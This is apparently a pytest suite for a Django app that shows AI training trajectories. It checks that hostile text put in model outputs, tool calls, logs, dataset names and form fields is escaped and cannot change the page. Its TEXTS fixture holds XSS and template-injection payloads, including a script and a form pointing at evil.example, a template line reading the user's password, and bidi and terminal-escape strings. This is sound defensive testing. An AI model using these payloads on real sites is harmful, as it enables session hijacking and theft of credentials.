"""Whatever models, programs and uploads say, on a page it is text: nothing runs, nothing hides, no page breaks."""

import json
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from engine.contract.base import visible
from tests.webapp.support import make_run
from tests.webapp.ui import rows
from tests.webapp.ui.markup import Page
from webapp.accounts.models import Project
from webapp.datasets.models import Dataset
from webapp.runs.models import Run
from webapp.trajectories.models import Trajectory
from webapp.ui import inert

pytestmark = [pytest.mark.django_db]
PROGRAMS = {
    case["id"]: case["input"]["code"]
    for case in map(json.loads, Path("tests/cases/hostile.jsonl").read_text().splitlines())
}
TEXTS = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "leaving a pre": "</pre></details></main><h1>owned</h1><script src=//evil.example/x.js></script>",
    "leaving a textarea": "</textarea><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "leaving a title": "</title><svg onload=alert(1)>",
    "leaving an attribute": '"><a href="javascript:alert(1)" onclick=\'x\' style=color:red>x</a><b x="',
    "a style": "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
    "a template": "{{ request.user.password }}{% debug %}{#",
    "a form": "<form action=//evil.example><input name=csrfmiddlewaretoken></form><base href=//evil.example>",
    "htmx": '<div hx-get="/tokens" hx-trigger="load" data-command="kill">x</div>',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "NUL": "a\x00b",
    "lone surrogate": "a\udc80b",
    "bidi": "if role == '\u202euser\u2066 admin\u2069 \u2066':",
    "terminal": "\x1b[31mred\x1b[0m\x07",
    **{name: PROGRAMS[name] for name in ("H031", "H043", "H045")},
}


@pytest.fixture
def run(project: Project) -> Run:
    return make_run(project, state="failed")


def say_everywhere(run: Run, text: str) -> Trajectory:
    """A trajectory that says it wherever a model, a program or a problem may; as it lies in the database."""
    text = visible(text)
    row = rows.make_trajectory(
        run, texts=False, problem=text, gold=text, answer=text, problem_id=text, group_name=text[:100],
        kept_reason=text, verdict=text[:20],
    )  # fmt: skip
    rows.add_turns(row, [("assistant", f"{text}<tool_call>{text}</tool_call>"), ("tool", text), ("assistant", text)])
    rows.add_call(row, name=text, arguments={"code": text, text: text}, status="error", error_type=text, response=text)
    rows.log(run, text, level="error")
    return row


def test_text_of_models_stays_text_and_can_be_read(client: Client, run: Run) -> None:
    expected = skeleton(client.get(f"/trajectories/{say_everywhere(run, 'plain').pk}").text)

    for name, text in TEXTS.items():
        row = say_everywhere(run, text)
        html = client.get(f"/trajectories/{row.pk}").text
        page = Page(html)
        assert page.offences() == [], name
        assert page.doubled_ids() == [], name
        assert skeleton(html) == expected, name
        assert hidden(html) == [], name
        words = [word for word in text.split() if word.isascii() and word.isprintable()]
        assert [word for word in words if word not in page.by_id("t2").text] == [], name


def test_raw_text_is_exact_in_the_file_and_harmless_on_the_page(client: Client, run: Run) -> None:
    for name, text in TEXTS.items():
        row = say_everywhere(run, text)
        file = client.get(f"/trajectories/{row.pk}/text").content.decode()
        html = client.get(f"/trajectories/{row.pk}?raw=1").text
        assert f"=== message 3: assistant\n{visible(text)}\n" in file, name
        assert Page(html).offences() == [], name
        assert hidden(html) == [], name


def test_lists_and_logs_of_hostile_text_are_sound(client: Client, run: Run) -> None:
    for text in TEXTS.values():
        say_everywhere(run, text)

    for address in (f"/runs/{run.pk}/trajectories", f"/runs/{run.pk}"):
        html = client.get(address).text
        assert Page(html).offences() == []
        assert Page(html).all("h1")
        assert hidden(html) == []


def skeleton(html: str) -> set[str]:
    """The elements of a page by tag and the names of their attributes: what hostile text must not add to. Left out are
    Pygments' spans and the link to a newer trajectory, which the last one lacks."""
    named = {f"{one.tag} {sorted(one.attributes)}" for one in Page(html).elements if one.tag != "span"}
    return named - {"a ['class', 'data-hotkey', 'data-hotkey-label', 'href', 'rel']"}


def hidden(html: str) -> list[str]:
    """Characters that nobody sees, or that move others."""
    return [f"U+{ord(each):04X}" for each in html if each not in "\n\t" and inert.visible(each) != each]


def test_hidden_characters_are_named(client: Client, run: Run) -> None:
    row = say_everywhere(run, "a\u202eb\u200bc")

    assert "a⟦U+202E⟧b⟦U+200B⟧c" in Page(client.get(f"/trajectories/{row.pk}").text).by_id("t2").text


def test_a_line_of_a_megabyte_is_cut_and_can_be_had_whole(client: Client, run: Run) -> None:
    line = "x" * 1_000_000
    row = rows.make_trajectory(run, texts=False, problem=line, answer=line, gold=line)
    rows.add_turns(row, [("assistant", line + rows.CALL), ("tool", line)])
    rows.add_call(row, arguments={"code": line, "input": line}, response=line, name=line)

    response = client.get(f"/trajectories/{row.pk}")

    page = Page(response.text)
    assert len(response.content) < 700_000
    assert "show all (1 line, 1.0 MB)" in page.text
    assert page.all("a", href=f"/trajectories/{row.pk}/text", download="")
    assert line in client.get(f"/trajectories/{row.pk}/text").content.decode()
    assert len(client.get(f"/runs/{run.pk}/trajectories").content) < 50_000


def test_a_long_output_is_folded_after_twenty_lines(client: Client, run: Run) -> None:
    row = rows.make_trajectory(run, texts=False)
    rows.add_turns(row, [("assistant", rows.CALL), ("tool", "")])
    rows.add_call(row, response="\n".join(f"line {number}." for number in range(60)))

    page = Page(client.get(f"/trajectories/{row.pk}").text)

    head = page.one("pre", class_="text fold-head").text
    assert head.endswith("line 19.")
    assert "show all (60 lines" in page.text
    assert "line 59." in page.by_id("t1-tool1").text


def test_texts_of_people_stay_text_too(client: Client, project: Project) -> None:
    pages = ["/", "/datasets", "/recipes"]
    for text in (visible(each)[:80] for each in TEXTS.values()):
        dataset = Dataset.objects.create(
            project=project, name=text, version=1, sha256="0" * 64, count=1, created_by=project.owner
        )
        dataset.problems.create(position=1, text=text, answer=text)
        run = make_run(project, state="failed", name=text, state_reason=text, datasets={"rl": dataset.pk})
        run.attempts.create(number=1, outcome="failed", message=text, resumed_from=text)
        run.transitions.create(before="running", after="failed", reason=text, actor=text)
        pages += [f"/runs/{run.pk}", f"/datasets/{dataset.pk}"]

    for address in (*pages, f"/runs/new?run={run.pk}"):
        page = Page(client.get(address).text)
        assert page.offences() == []
        assert page.all("h1")


def test_typed_text_comes_back_as_text(client: Client, project: Project) -> None:
    hostile = TEXTS["leaving an attribute"]
    sent: dict[str, Any] = {"tab": "toml", "toml": TEXTS["leaving a textarea"], "run_name": hostile, "key": hostile}

    for page in (
        Page(client.post("/runs/new", sent | {"start": "1"}).text),
        Page(client.post("/runs/new", sent | {"to": "form"}).text),
        Page(client.post("/tokens", {"name": hostile}).text),
        Page(client.post("/datasets", {"name": hostile}).text),
        Page(client.get("/", {"q": hostile, "state": hostile}).text),
    ):
        assert page.offences() == []
